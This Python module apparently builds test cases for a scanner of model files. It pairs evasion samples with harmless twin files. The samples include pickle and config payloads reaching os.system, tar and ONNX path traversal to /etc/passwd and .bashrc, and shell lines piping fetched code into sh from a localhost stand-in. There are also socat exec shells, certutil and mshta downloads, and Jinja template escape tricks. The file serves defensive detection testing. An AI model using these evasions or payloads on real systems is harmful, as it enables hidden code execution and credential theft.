"""Group 19: evasions of a fresh pair of eyes for each door, and harmless twins.

Each uses what a reader of the format accepts and rules of version 9 did not know.
"""

from __future__ import annotations

import io
import json
import zipfile
from collections.abc import Iterator, Mapping
from typing import Any, Final

from muster.testkit.hostile.case import MARK, STOP, SYSTEM, Case, call, protocol, stacked, text
from muster.testkit.hostile.containers import zipped
from muster.testkit.hostile.described import gguf, pair
from muster.testkit.hostile.protobuf import message
from muster.testkit.hostile.texts import notebook
from muster.testkit.model_files import safetensors

_START: Final = protocol(4)
_MEMORY: Final = stacked("joblib.memory", "Memory")
_EMPTY: Final = MARK + b"t"


def pickles() -> Iterator[Case]:
    """Names that may only be stored, handed to functions that call them; classes changed by a state."""
    constructor = stacked("numpy.random._pickle", "__generator_ctor")
    yield _case("handed-constructor.pkl", _START + call(constructor, text("/opt/x"), _MEMORY) + STOP)
    rebuilt = stacked("torch._tensor", "_rebuild_from_type_v2")
    arguments = MARK + b"N" + _EMPTY + text("/etc/passwd") + b"t"
    booster = stacked("xgboost.core", "Booster")
    kind = stacked("collections", "OrderedDict")
    yield _case("handed-type.pkl", _START + call(rebuilt, booster, kind, arguments, b"N") + STOP)
    base = stacked("copyreg", "_reconstructor")
    yield _case("handed-base.pkl", _START + call(base, _MEMORY, _MEMORY, text("/opt/x")) + STOP)
    module = stacked("torch.nn.modules.module", "Module")
    patched = b"N}" + text("__call__") + stacked("builtins", "hash") + b"s\x86b"
    yield _case("changed-class.pkl", _START + module + patched + STOP)
    added = call(stacked("copyreg", "add_extension"), text("os"), text("system"), b"K\1")
    yield _case("added-extension.pkl", _START + added + b"0\x82\1" + text("true") + b"\x85R" + STOP)
    node = {"__class__": "ndarray", "__module__": "numpy", "__loader__": "NdArrayNode", "type": "numpy"}
    schema = {"content": node | {"file": "../../../etc/passwd"}, "protocol": 2}
    yield _case("elsewhere.skops", zipped({"schema.json": json.dumps(schema).encode()}))


PROGRAMS: Final[Mapping[str, str]] = {
    "bytecode": "import os\ndef f():\n    return os.getcwd('true')\n"
    "f.__code__ = f.__code__.replace(co_names=('os', 'system'))\nf()\n",
    "globals": "import os\nglobals()['o' + 's'].system('true')\n",
    "frame": "import os, sys\nsys._getframe(0).f_globals['os'].system('true')\n",
    "dictionary": "import os\n[f for n, f in os.__dict__.items() if n == 'sys' 'tem'][0]('true')\n",
    "unpacked": "import os\n{**os.__dict__}['system']('true')\n",
    "timed": "import timeit\ntimeit.timeit('import os; os.sys' + 'tem(\"true\")', number=1)\n",
    "loop": "import asyncio\nasync def f():\n    loop = asyncio.get_running_loop()\n"
    "    await loop.subprocess_shell(asyncio.SubprocessProtocol, 'true')\n",
    "inline": "from torch.utils.cpp_extension import load_inline\nload_inline('x', cpp_sources='int f();')\n",
    "archive": "import zipimport\nzipimport.zipimporter('weights.bin').load_module('x')\n",
    "site": "import site\nsite.addsitedir('data')\n",
    "loader": "import importlib.util as u\nu.find_spec('os').loader.load_module('os').system('true')\n",
    "located": "import pydoc\npydoc.locate('os.system')('true')\n",
    "resolved": "import pkgutil\npkgutil.resolve_name('os:system')('true')\n",
    "installed": "from pip._internal.cli.main import main\nmain(['install', 'evil'])\n",
    "debugger": "import bdb\nbdb.Bdb().run('import os')\n",
    "library": "import torch\ntorch.ops.load_library('weights.bin')\n",
    "yaml": "import yaml\nyaml.unsafe_load('!!python/object/apply:os.system [\"true\"]')\n",
    "browser": "import webbrowser\nwebbrowser.GenericBrowser(['true']).open('x')\n",
    "mapped": "import os\nlist(map(getattr, [os], ['system']))[0]('true')\n",
    "class": "import os\nclass A:\n    place = os\nA.place.system('true')\n",
    "stored": "import os\nd = {}\nd['a'] = os\nd['a'].system('true')\n",
    "yielded": "import os\ndef g():\n    yield os\nnext(g()).system('true')\n",
    "lambda": "import os\n(lambda: os)().system('true')\n",
    "walrus": "import os\nx = (y := os)\nx.system('true')\n",
}
"""Python that starts programs by other modules, or reaches `os` by other ways."""


def programs() -> Iterator[Case]:
    """Python: modules that run text, ways to a module that no name shows."""
    for name, program in PROGRAMS.items():
        yield _case(f"{name}.py", program)


CELLS: Final[Mapping[str, tuple[str, ...]]] = {
    "written": ("%%writefile a.py\nimport os\nos.system('true')", "%run a.py"),
    "called-with-text": (";exec import os",),
    "called-with-words": (",exec import_os",),
    "called": ("/exec 'pass'",),
    "cell-in-cell": ("get_ipython().run_cell('import o' 's')",),
    "browser": ("%%javascript\nIPython.notebook.kernel.execute('import os')",),
}


def notebooks() -> Iterator[Case]:
    """Notebooks: languages that are not the kernel's, files written for later, calls without brackets."""
    program = "import os\nos.system('true')"
    for name, about in {
        "other-language": {"kernelspec": {"name": "python3", "language": "julia"}},
        "other-info": {"kernelspec": {"name": "python3"}, "language_info": {"name": "R"}},
    }.items():
        yield _case(f"{name}.ipynb", json.dumps(json.loads(notebook(program)) | {"metadata": about}))
    for name, cells in CELLS.items():
        yield _case(f"{name}.ipynb", notebook(*cells))


COMMANDS: Final[Mapping[str, str]] = {
    "python-c": 'python3 -c "$(curl -s https://localhost/x)"',
    "perl-e": 'perl -e "$(wget -qO- https://localhost/x)"',
    "dns": "dig +short txt x.localhost | sh",
    "bucket": "aws s3 cp s3://localhost/x - | bash",
    "over-ssh": "ssh localhost cat x | sh",
    "fetch": "fetch -o - https://localhost/x | sh",
    "itself": 'tail -n +4 "$0" | bash\nexit\n',
    "escapes": "printf '\\x63\\x75\\x72\\x6c' | sh",
    "quoted": "c''url -s https://localhost/x | s\\h",
    "variable": "C=curl; $C -s https://localhost/x | sh",
    "later": "curl -s https://localhost/x | at now",
    "table": "curl -s https://localhost/x | crontab -",
    "awk": "curl -s https://localhost/x | awk '{print | \"sh\"}'",
    "socat": "socat TCP:localhost:1 EXEC:sh",
    "encoded": "powershell -NoProfile -enc SQBFAFgAIAAoAE4A",
    "installer": "mshta https://localhost/x.hta",
    "certificate": "certutil -urlcache -f https://localhost/x x.exe",
}


def commands() -> Iterator[Case]:
    """Shell: other commands that fetch, other ways to run it, words broken up, Windows' own tools."""
    for name, command in COMMANDS.items():
        yield _case(f"{name}.sh", f"#!/bin/sh\n{command}\n")


CONFIGURATIONS: Final[Mapping[str, Mapping[str, Any]]] = {
    "jsonpickle": {"py/reduce": [{"py/type": "os.system"}, {"py/tuple": ["true"]}]},
    "jsonpickle-object": {"py/object": "subprocess.Popen", "args": ["true"]},
    "megatron": {"peft_type": "LORA", "megatron_config": {"a": 1}, "megatron_core": "evil.core"},
    "router": {"types": {"0": "evil.Module"}, "structure": {"q": ["0"]}},
    "word-tokenizer": {"tokenizer_class": "os.system", "vocab_size": 3},
    "prompt": {"_type": "prompt", "input_variables": [], "template_path": "/etc/passwd"},
    "component": {"components": {"a": {"type": "os.system", "init_parameters": {}}}},
    "module-class": {"module": "os", "class": "system", "params": {}},
    "callable": {"callable": "os.system", "args": ["true"]},
    "entry": {"entry_point": "os:system"},
    "opened": {"tasks": [{"command": "sh x.sh", "runOptions": {"runOn": "folderOpen"}}]},
    "browser": {"modelTopology": {}, "weightsManifest": [{"paths": ["../../../etc/passwd"]}]},
}


def configurations() -> Iterator[Case]:
    """JSON, INI and Gin: other keys by which libraries import, other files that they read."""
    for name, document in CONFIGURATIONS.items():
        yield _case(f"{name}.json", json.dumps(document))
    yield _case("config.ini", "[a]\n_target_ = os.system\ncommand = true\n")
    yield _case("config.gin", "from __gin__ import dynamic_registration\nimport os\n\nrun.f = @os.system()\n")


def tar_member(name: bytes, content: bytes, kind: bytes = b"0", *, size: int = -1, **more: bytes) -> bytes:
    """A member of a tar, with the odd header that `more` has: `magic`, `prefix`; `signed`: its sum."""
    head = bytearray(512)
    head[: len(name)] = name
    head[100:136] = b"0000644\0" + b"0000000\0" * 2 + b"%011o\0" % (len(content) if size < 0 else size)
    head[136:157] = b"00000000000\0" + b" " * 8 + kind
    head[257:265] = more.get("magic", b"ustar\00000")
    head[345 : 345 + len(more.get("prefix", b""))] = more.get("prefix", b"")
    total = sum(byte - 256 if "signed" in more and byte > 127 else byte for byte in head)
    head[148:156] = b"%06o\0 " % total
    return bytes(head) + content + bytes(-len(content) % 512)


def _pax(key: str, value: str) -> bytes:
    record = f" {key}={value}\n"
    length = len(record) + 2 if len(record) < 98 else len(record) + 3
    return f"{length}{record}".encode()


def archives() -> Iterator[Case]:
    """Tars: members of unknown kinds, headers in other spellings, sizes and sums that readers differ in."""
    end = bytes(1024)
    for kind in (b"S", b"Z", b"V", b"D"):
        yield _case(f"kind-{kind.decode()}.tar", tar_member(b"model.pkl", SYSTEM, kind) + end)
    solaris = tar_member(b"x", _pax("path", "../../.bashrc"), b"X")
    yield _case("solaris.tar", solaris + tar_member(b"a", b"true") + end)
    hidden = tar_member(b"../../.bashrc", b"true")
    resized = tar_member(b"x", _pax("size", "512"), b"x")
    yield _case("resized.tar", resized + tar_member(b"a.txt", b"a" * 512 + hidden, size=1536) + end)
    for name, magic in (("gnu", b"ustar  \0"), ("old", bytes(8))):
        member = tar_member(b".bashrc", b"true", magic=magic, prefix=b"../..")
        yield _case(f"prefix-{name}.tar", member + end)
    program = b"import os\nos.system('true')\n"
    yield _case("signed.tar", tar_member(b"mod\xe9l.py", program, signed=b"1") + end)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(zipfile.ZipInfo("a.txt", (1980, 1, 1, 0, 0, 0)), "a")
        archive.comment = zipped({"model.pkl": SYSTEM})
    yield _case("comment.zip", out.getvalue())


def _onnx(node: bytes, more: bytes = b"") -> bytes:
    graph = message({1: node, 2: "g"})
    return message({1: 9, 2: "x"}) + message({7: graph, 8: message({2: 20})}) + more


def _operator(name: str, key: str, value: str) -> bytes:
    node = message({2: "y", 4: name, 7: "com.microsoft"})
    return _onnx(node + message({5: message({1: key, 4: value, 20: 3})}))


ONNX_TEXT: Final = """ir_version: 8
graph {
  node { output: "y" op_type: "%s" domain: "%s" }
  initializer { name: "w" external_data { key: "location" value: "%s" } data_location: EXTERNAL }
}
"""
CAFFE: Final = 'layer {\n type: "Python"\n python_param { module: "os" layer: "system" }\n}\n'
TRITON: Final = 'backend: "%s"\nparameters { key: "EXECUTION_ENV_PATH" value: { string_value: "%s" } }\n'


def graphs() -> Iterator[Case]:
    """ONNX that runs Python or is written as text, layers of Caffe, servers' settings."""
    yield _case("python.onnx", _operator("PythonOp", "func_name", "os.system"))
    yield _case("by-name.onnx", _operator("ATen", "operator", "from_file"))
    yield _case("compiled.onnx", _operator("EPContext", "ep_cache_context", "../../x.bin"))
    target = json.dumps({"_target_": "os.system"})
    plain = message({2: "y", 4: "Identity"})
    yield _case("metadata.onnx", _onnx(plain, message({14: message({1: "config", 2: target})})))
    yield _case("text.onnxtxt", ONNX_TEXT % ("Add", "", "../../etc/passwd"))
    yield _case("operator.onnxtxt", ONNX_TEXT % ("Run", "com.evil", "w.bin"))
    tensor = {"name": "w", "externalData": [{"key": "location", "value": "/etc/passwd"}]}
    yield _case("model.onnxjson", json.dumps({"irVersion": "8", "graph": {"initializer": [tensor]}}))
    yield _case("caffe.prototxt", CAFFE)
    yield _case("triton/config.pbtxt", TRITON % ("../../../evil", "/opt/evil.tar.gz"))


METADATA: Final[Mapping[str, str]] = {
    "yaml": "_target_: os.system\ncommand: 'true'\n",
    "tag": "a: !!python/object/apply:os.system ['true']\n",
    "python": "import os\nos.system('true')\n",
    "shell": "curl -s https://localhost/x | sh",
}


def tensor_files() -> Iterator[Case]:
    """Texts in the metadata of safetensors and GGUF, in every form that a text has."""
    for name, value in METADATA.items():
        yield _case(f"{name}.safetensors", safetensors({"__metadata__": {"config": value}}, b""))
        yield _case(f"{name}.gguf", _aligned(gguf(pair("general.config", value), 1)))


def _aligned(content: bytes) -> bytes:
    return content + bytes(-len(content) % 32)


CHUNK: Final = "---\ntitle: x\n---\n\n```{%s}\n%s\n```\n"


def r_files() -> Iterator[Case]:
    """R: scripts from elsewhere, profiles that start programs, Python in texts that are rendered."""
    yield _case("fetched.R", 'source("https://localhost/x.R")\n')
    yield _case("evaluated.R", 'eval(parse(url("https://localhost/x.R")))\n')
    yield _case("first/.Rprofile", '.First <- function() system("true")\n')
    program = "import os\nos.system('true')"
    yield _case("chunk.Rmd", CHUNK % ("python", program))
    yield _case("cell.md", CHUNK % ("code-cell} python", program))


_UNDERSCORE: Final = "{{ '_' }}"
TEMPLATES: Final = (
    f"{{% set k %}}{_UNDERSCORE * 2}class{_UNDERSCORE * 2}{{% endset %}}{{{{ ()[k] }}}}",
    "{{ ()|attr(dict(__class__=1)|list|first) }}",
    "{{ ()|attr(['__cla', 'ss__']|join) }}",
)


def templates() -> Iterator[Case]:
    """Chat templates: attributes by names that are printed, or keys."""
    for number, template in enumerate(TEMPLATES):
        yield _case(f"printed-{number}/tokenizer_config.json", json.dumps({"chat_template": template}))


DOORS: Final = (
    pickles,
    programs,
    notebooks,
    commands,
    configurations,
    archives,
    graphs,
    tensor_files,
    templates,
    r_files,
)


def evasions() -> Iterator[Case]:
    """All of them."""
    for door in DOORS:
        yield from door()


ORDINARY_PROGRAMS: Final = (
    "import argparse\nargs = argparse.ArgumentParser().parse_args()\nprint(vars(args), args.__dict__)\n",
    "import timeit\nprint(timeit.timeit(lambda: sum([1]), number=3), timeit.timeit('1 + 1'))\n",
    "from app.main import main\nclass A:\n    run = print\nd = {}\nd['os'] = 'linux'\n"
    "A.run(next(iter(d)))\nmain()\n",
    "globals()['LIMIT'] = 3\nname = 'a-b'.replace('-', '_')\nprint(globals().get(name))\n",
)
ORDINARY_COMMANDS: Final = (
    "printf '\\x1b[31mred\\x1b[0m\\n' | tee log\necho -e '\\x41' > a.txt\n",
    "aws s3 cp s3://bucket/model.safetensors .\nssh host cat x > y\ncrontab -l\n",
    'tail -n 3 "$0"\npowershell -ExecutionPolicy Bypass -File setup.ps1\n',
)
ORDINARY_DOCUMENTS: Final[Mapping[str, Mapping[str, Any]]] = {
    "tool": {"type": "function", "function": {"name": "subprocess", "parameters": {"type": "object"}}},
    "tokenizer": {"tokenizer_class": "LlamaTokenizer", "model_max_length": 3},
    "router": {"types": {"0": "sentence_transformers.models.Dense"}, "structure": {"q": ["0"]}},
    "component": {"a": {"type": "haystack.components.builders.PromptBuilder", "init_parameters": {}}},
    "browser": {"modelTopology": {}, "weightsManifest": [{"paths": ["group1-shard1of1.bin"]}]},
    "prompt": {"_type": "prompt", "template_path": "prompt.txt"},
    "tasks": {"tasks": [{"command": "make", "group": "build"}]},
    "trace": {"traceEvents": [{"module": "subprocess", "name": "run", "function": "run"}]},
    "layer": {"module": "torch.nn", "class": "Linear", "func": "mean", "__class__": "Linear"},
}
ORDINARY_METADATA: Final = (
    "learning_rate: 0.1\nresolution: [512, 512]\n",
    "Trained with `import torch` on 3 GPUs; see https://localhost/x | main branch",
    json.dumps({"ss_network_args": {"conv_dim": "8"}, "type": "lora"}),
)


def harmless() -> Iterator[Case]:
    """Ordinary files beside them."""
    generator = call(stacked("numpy.random._pickle", "__bit_generator_ctor"), text("PCG64"))
    yield _twin(
        "generator.pkl", _START + call(stacked("numpy.random._pickle", "__generator_ctor"), generator) + STOP
    )
    base = call(
        stacked("copyreg", "_reconstructor"),
        stacked("argparse", "Namespace"),
        stacked("builtins", "object"),
        b"N",
    )
    yield _twin("namespace.pkl", _START + base + b"}" + text("a") + b"K\1sb" + STOP)
    yield _twin(
        "counts.pkl", _START + call(stacked("collections", "defaultdict"), stacked("builtins", "len")) + STOP
    )
    for number, program in enumerate(ORDINARY_PROGRAMS):
        yield _twin(f"program-{number}.py", program)
    for number, command in enumerate(ORDINARY_COMMANDS):
        yield _twin(f"command-{number}.sh", f"#!/bin/sh\n{command}")
    yield _twin("table.md", "| fetch | shell |\n|---|---|\n| ssh | bash |\n| curl | sh |\n")
    written = notebook(
        "%%writefile train.py\nimport torch\nprint(torch.ones(3))", "%matplotlib inline\n/path/to/x\ny = 3"
    )
    yield _twin("written.ipynb", written)
    julia = json.loads(notebook("using Flux\nmodel = Chain(Dense(2 => 3))"))
    yield _twin(
        "julia.ipynb",
        json.dumps(julia | {"metadata": {"kernelspec": {"name": "julia-1.11", "language": "julia"}}}),
    )
    yield _twin("magic.ipynb", notebook("get_ipython().run_line_magic('matplotlib', 'inline')"))
    greeting = "{% set text %}Hello, {{ user_name }}{% endset %}{{ messages[0]['content'] ~ text }}"
    yield _twin("greeting/tokenizer_config.json", json.dumps({"chat_template": greeting}))
    for name, document in ORDINARY_DOCUMENTS.items():
        yield _twin(f"{name}.json", json.dumps(document))
    end = bytes(1024)
    yield _twin("contiguous.tar", tar_member(b"a.txt", b"words\n", b"7") + end)
    yield _twin(
        "resized.tar", tar_member(b"x", _pax("size", "6"), b"x") + tar_member(b"a.txt", b"words\n") + end
    )
    yield _twin("signed.tar", tar_member(b"mod\xe9l.txt", b"words\n", signed=b"1") + end)
    yield _twin("fused.onnx", _operator("FusedMatMul", "name", "a"))
    yield _twin("compiled.onnx", _operator("EPContext", "ep_cache_context", "model_ctx.bin"))
    yield _twin("text.onnxtxt", ONNX_TEXT % ("Add", "", "weights.bin"))
    yield _twin("caffe.prototxt", 'layer {\n type: "Convolution"\n convolution_param { num_output: 3 }\n}\n')
    yield _twin("config.pbtxt", TRITON % ("python", "$$TRITON_MODEL_DIRECTORY/env.tar.gz"))
    for number, value in enumerate(ORDINARY_METADATA):
        yield _twin(f"metadata-{number}.safetensors", safetensors({"__metadata__": {"about": value}}, b""))
        yield _twin(f"metadata-{number}.gguf", _aligned(gguf(pair("general.description", value), 1)))
    yield _twin("profile/.Rprofile", 'options(repos = c(CRAN = "https://cloud.r-project.org"))\n')
    yield _twin("local.R", 'source("functions.R")\nx <- read.csv("a.csv")\n')
    yield _twin("chunk.Rmd", CHUNK % ("python", "import numpy as np\nprint(np.ones(3))"))


def _case(name: str, content: str | bytes) -> Case:
    return Case("evasions", name, content.encode() if isinstance(content, str) else content)


def _twin(name: str, content: str | bytes) -> Case:
    return Case("", f"twins/{name}", content.encode() if isinstance(content, str) else content)
